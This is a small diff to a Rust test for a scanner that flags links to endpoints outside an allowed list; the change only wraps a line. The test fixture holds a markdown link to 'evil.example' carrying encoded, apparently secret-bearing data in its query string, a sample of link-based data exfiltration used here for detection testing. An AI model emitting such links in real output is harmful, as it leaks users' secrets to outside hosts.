@@ -313,7 +313,8 @@ fn a_link_that_a_view_ends_early_is_found_once_as_it_is() {
     let endpoint = policy::Endpoint::parse("ok.example").unwrap();
     let probe = Probe { label: "any".into(), kind: ProbeKind::LinkOutside([endpoint].into()) };
     let scanner = Arc::new(Scanner::new([(ProbeId(0), &probe)]));
-    let text = "[click](https://evil.example/?x=dGhlt\u{fffd}\u{feba}gaXMgc3RvcmVkIGluIHZhdWx0IHB\u{fffd}hdGggc2Vj)";
+    let text =
+        "[click](https://evil.example/?x=dGhlt\u{fffd}\u{feba}gaXMgc3RvcmVkIGluIHZhdWx0IHB\u{fffd}hdGggc2Vj)";
     let wanted = whole(&scanner, text);
     assert_eq!(wanted.findings.len(), 1);
     for place in 0..text.len() {
